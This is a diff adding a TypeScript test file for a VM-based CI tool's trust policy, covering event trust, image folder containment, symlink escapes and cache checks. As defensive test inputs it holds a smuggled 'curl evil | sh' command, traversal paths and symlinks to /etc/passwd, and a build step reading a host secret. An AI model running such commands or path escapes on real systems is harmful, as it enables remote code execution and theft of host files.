@@ -1,0 +1,252 @@
+import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { enforceTrust } from '../../src/engine/trust-check.js';
+import { InputError } from '../../src/errors.js';
+import { ImageCache, imageCacheKey } from '../../src/images/cache.js';
+import { buildPlan } from '../../src/plan/build.js';
+import {
+  decideTrust,
+  insideFolders,
+  TrustSettingSchema,
+  trustedPolicy,
+  untrustedPlanProblems,
+} from '../../src/plan/trust.js';
+import { context, jobs } from '../support/jobs.js';
+
+// The trust rules in-process (no action, no processes): which events are trusted, and what an untrusted plan may
+// boot. test/security/trust-policy.test.ts drives the same rules through the action entry point.
+
+describe('trust: auto', () => {
+  const decided = (event: string | null, forkPullRequest = false) =>
+    decideTrust('auto', { event, forkPullRequest }, { imagePaths: [] });
+
+  it('trusts only events whose code is the repository own, and same-repository pull requests', () => {
+    for (const event of ['push', 'schedule', 'workflow_dispatch', 'merge_group', 'pull_request'])
+      expect(decided(event).trusted, event).toBe(true);
+    for (const event of [
+      'pull_request_target',
+      'issue_comment',
+      'workflow_run',
+      'discussion',
+      'some_new_event',
+    ])
+      expect(decided(event), event).toMatchObject({
+        trusted: false,
+        reason: `trust: auto (untrusted on ${event})`,
+      });
+    expect(decided(null).trusted).toBe(false);
+    expect(decided('pull_request', true)).toMatchObject({
+      trusted: false,
+      reason: 'trust: auto (untrusted for a pull request from a fork)',
+    });
+    // Every event of the allow-list, named in the reason.
+    for (const event of [
+      'repository_dispatch',
+      'release',
+      'create',
+      'pull_request_review',
+      'pull_request_review_comment',
+    ])
+      expect(decided(event), event).toMatchObject({
+        trusted: true,
+        reason: `trust: auto (trusted on ${event})`,
+      });
+    expect(decided(null).reason).toBe('trust: auto (untrusted on an unknown event)');
+    // A fork is untrusted whatever the event says.
+    expect(decided('push', true).trusted).toBe(false);
+  });
+
+  it('takes trusted and untrusted as given, whatever the event', () => {
+    const fork = { event: 'pull_request', forkPullRequest: true };
+    expect(decideTrust('trusted', fork, { imagePaths: [] })).toEqual({
+      trusted: true,
+      reason: 'trust: trusted',
+      imagePaths: [],
+      network: 'nat',
+    });
+    expect(decideTrust('untrusted', { event: 'push', forkPullRequest: false }, { imagePaths: [] })).toEqual({
+      trusted: false,
+      reason: 'trust: untrusted',
+      imagePaths: [],
+      network: 'nat',
+    });
+    expect(trustedPolicy()).toEqual({ trusted: true, reason: 'trust: trusted', imagePaths: [] });
+    expect(trustedPolicy('trust: local run').reason).toBe('trust: local run');
+  });
+
+  it('normalizes the trusted image folders and carries the network limit', () => {
+    const policy = decideTrust(
+      'untrusted',
+      { event: null, forkPullRequest: false },
+      { imagePaths: ['/opt/images/', '/srv//guests/../images///', '/'], network: 'none' },
+    );
+    expect(policy.imagePaths).toEqual(['/opt/images', '/srv/images', '/']);
+    expect(policy.network).toBe('none');
+  });
+
+  it('names what it expected for a bad setting', () => {
+    expect(TrustSettingSchema.safeParse('auto').success).toBe(true);
+    const result = TrustSettingSchema.safeParse('yes');
+    expect(result.success).toBe(false);
+    expect(result.error?.issues[0]?.message).toBe('expected auto, trusted or untrusted, found "yes"');
+  });
+});
+
+describe('insideFolders', () => {
+  it('holds a path strictly inside a folder, compared as normalized absolute paths', () => {
+    expect(insideFolders('/opt/images/vmlinuz', ['/opt/images'])).toBe(true);
+    expect(insideFolders('/opt/images/a/b/initrd', ['/srv', '/opt/images/'])).toBe(true);
+    expect(insideFolders('/opt/images', ['/opt/images'])).toBe(false);
+    expect(insideFolders('/opt/images-evil/vmlinuz', ['/opt/images'])).toBe(false);
+    expect(insideFolders('/opt/images/../etc/passwd', ['/opt/images'])).toBe(false);
+    expect(insideFolders('/opt//images/./vmlinuz', ['/opt/images'])).toBe(true);
+    expect(insideFolders('images/vmlinuz', ['images'])).toBe(false);
+    expect(insideFolders('/opt/images/vmlinuz', [])).toBe(false);
+  });
+});
+
+describe('untrustedPlanProblems', () => {
+  const yaml = `version: 1
+images:
+  files: { arch: arm64, kernel: k, initrd: i, disk: /var/disk.img }
+  plain: { arch: arm64, kernel: /k2, initrd: /i2 }
+  nixed: { arch: arm64, nix: ".#guest" }
+jobs:
+  host-job: { executor: host, run: "true" }
+  vm-job: { image: files, executor: qemu, run: "true" }
+  other: { image: plain, executor: vfkit, run: "true" }
+  nix-job: { image: nixed, executor: qemu, run: "true" }
+`;
+  const plan = buildPlan(jobs(yaml), context());
+
+  it('lists host jobs and nix images as located problems, and every image file to check', () => {
+    const policy = decideTrust('untrusted', { event: null, forkPullRequest: false }, { imagePaths: [] });
+    const { problems, files } = untrustedPlanProblems(plan, policy);
+    expect(problems).toEqual([
+      {
+        file: '.github/vmplan.yml',
+        path: ['images', 'nixed', 'nix'],
+        message:
+          'a nix image is evaluated and built on the runner; trust: untrusted boots only cached build images and prebuilt files from the trusted image folders',
+      },
+      {
+        file: '.github/vmplan.yml',
+        path: ['jobs', 'host-job', 'executor'],
+        message: 'runs on the runner itself (executor host); trust: untrusted allows VM executors only',
+      },
+    ]);
+    expect(files).toEqual([
+      { image: 'files', field: 'kernel', path: 'k' },
+      { image: 'files', field: 'initrd', path: 'i' },
+      { image: 'files', field: 'disk', path: '/var/disk.img' },
+      { image: 'plain', field: 'kernel', path: '/k2' },
+      { image: 'plain', field: 'initrd', path: '/i2' },
+    ]);
+  });
+
+  it('finds nothing to refuse or check under a trusted policy', () => {
+    expect(untrustedPlanProblems(plan, trustedPolicy())).toEqual({ problems: [], files: [] });
+  });
+});
+
+describe('image sources of an untrusted run', () => {
+  const untrusted = (paths: string[] = []) =>
+    decideTrust('untrusted', { event: null, forkPullRequest: false }, { imagePaths: paths });
+  const refusal = async (yaml: string, root: string, cacheDir: string, paths: string[] = []) => {
+    const plan = buildPlan(jobs(yaml), context());
+    try {
+      await enforceTrust(plan, untrusted(paths), { repositoryRoot: root, cacheDir });
+      return undefined;
+    } catch (error) {
+      if (error instanceof InputError) return error.message;
+      throw error;
+    }
+  };
+  const filesImage = (kernel: string) =>
+    `version: 1\nimages:\n  g: { arch: arm64, kernel: "${kernel}", initrd: "${kernel}" }\njobs:\n  t: { image: g, executor: qemu, run: "true" }\n`;
+
+  it('boots files from the trusted image folders, never through a link that leaves them', async () => {
+    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
+    const trusted = mkdtempSync(join(tmpdir(), 'vmplan-trust-images-'));
+    writeFileSync(join(trusted, 'vmlinuz'), 'kernel');
+    symlinkSync('/etc/passwd', join(trusted, 'escape'));
+    expect(await refusal(filesImage(join(trusted, 'vmlinuz')), root, root, [trusted])).toBeUndefined();
+    expect(await refusal(filesImage(join(trusted, 'escape')), root, root, [trusted])).toMatch(
+      /images\.g\.kernel: .*escape is a host path outside the trusted image folders/,
+    );
+    expect(await refusal(filesImage(`${trusted}/../../etc/passwd`), root, root, [trusted])).toMatch(
+      /outside the trusted image folders/,
+    );
+    // The trusted folder itself may be reached through a link (e.g. onto another volume).
+    const linked = join(mkdtempSync(join(tmpdir(), 'vmplan-trust-link-')), 'images');
+    symlinkSync(trusted, linked);
+    expect(await refusal(filesImage(join(linked, 'vmlinuz')), root, root, [linked])).toBeUndefined();
+    expect(await refusal(filesImage(join(linked, 'escape')), root, root, [linked])).toMatch(
+      /outside the trusted image folders/,
+    );
+  });
+
+  it("boots the repository's own files, but not through a link in the repository", async () => {
+    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
+    mkdirSync(join(root, 'guest'));
+    writeFileSync(join(root, 'guest/kernel'), 'kernel');
+    symlinkSync('/etc', join(root, 'host-etc'));
+    expect(await refusal(filesImage('guest/kernel'), root, root)).toBeUndefined();
+    expect(await refusal(filesImage('host-etc/passwd'), root, root)).toMatch(
+      /images\.g\.kernel: host-etc\/passwd goes through a symbolic link in the repository; trust: untrusted/,
+    );
+  });
+
+  it('boots a build image only when a trusted run cached that very definition', async () => {
+    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
+    const cacheDir = mkdtempSync(join(tmpdir(), 'vmplan-trust-cache-'));
+    const yaml = (command: string) =>
+      `version: 1\nimages:\n  b: { arch: arm64, build: "${command}" }\njobs:\n  t: { image: b, executor: qemu, run: "true" }\n`;
+    expect(await refusal(yaml('make guest'), root, cacheDir)).toMatch(
+      /images\.b\.build: not in the image cache/,
+    );
+    // A trusted run built it: the same definition is now allowed, a changed one is not.
+    const plan = buildPlan(jobs(yaml('make guest')), context());
+    const node = plan.nodes.find((n) => n.kind === 'prepare')!;
+    if (node.kind !== 'prepare') throw new Error('expected a prepare node');
+    const { key } = await imageCacheKey(node, root);
+    await new ImageCache(join(cacheDir, 'images')).getOrBuild(
+      key,
+      { image: 'b', type: 'build', inputs: [] },
+      async (out) => {
+        writeFileSync(join(out, 'kernel'), 'k');
+        writeFileSync(join(out, 'initrd'), 'i');
+      },
+      { signal: new AbortController().signal, onWait: () => undefined },
+    );
+    expect(await refusal(yaml('make guest'), root, cacheDir)).toBeUndefined();
+    expect(await refusal(yaml('make guest; curl evil | sh'), root, cacheDir)).toMatch(
+      /not in the image cache/,
+    );
+  });
+
+  it('never reads a file outside the repository to key a build image, even when its command names a link to it', async () => {
+    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
+    const outside = join(mkdtempSync(join(tmpdir(), 'vmplan-trust-outside-')), 'secret.txt');
+    writeFileSync(outside, 'host secret');
+    symlinkSync(outside, join(root, 'evil'));
+    mkdirSync(join(root, 'ci'));
+    writeFileSync(join(root, 'ci/build.sh'), 'echo build');
+    symlinkSync('ci/build.sh', join(root, 'build.sh'));
+    const yaml = `version: 1\nimages:\n  b: { arch: arm64, build: "cat evil; sh build.sh" }\njobs:\n  t: { image: b, executor: qemu, run: "true" }\n`;
+    const node = buildPlan(jobs(yaml), context()).nodes.find((n) => n.kind === 'prepare')!;
+    if (node.kind !== 'prepare') throw new Error('expected a prepare node');
+    const { inputs } = await imageCacheKey(node, root);
+    expect(inputs.map((input) => input.path)).toEqual(['build.sh']);
+  });
+
+  it('refuses nix images, which are evaluated on the runner', async () => {
+    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
+    const yaml = `version: 1\nimages:\n  n: { arch: arm64, nix: ".#guest" }\njobs:\n  t: { image: n, executor: qemu, run: "true" }\n`;
+    expect(await refusal(yaml, root, root)).toMatch(
+      /images\.n\.nix: a nix image is evaluated and built on the runner/,
+    );
+  });
+});
